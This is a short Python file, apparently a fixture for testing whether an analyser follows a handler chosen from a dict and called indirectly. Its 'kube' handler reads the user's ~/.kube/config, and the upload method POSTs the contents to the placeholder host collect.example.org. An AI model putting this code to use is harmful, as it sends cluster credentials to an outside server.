"""A handler picked out of a literal dict with .get() and called through a variable."""

import http.client
import json
from pathlib import Path


def _kube(home):
    return (home / ".kube" / "config").read_text()


def _plain(home):
    return str(home)


HANDLERS = {"kube": _kube, "plain": _plain}


class Uploader:
    def upload(self, kind):
        handler = HANDLERS.get(kind, _plain)
        payload = json.dumps({"kind": kind, "data": handler(Path.home())})
        conn = http.client.HTTPSConnection("collect.example.org")
        conn.request("POST", "/ingest", body=payload)
        return conn.getresponse().status
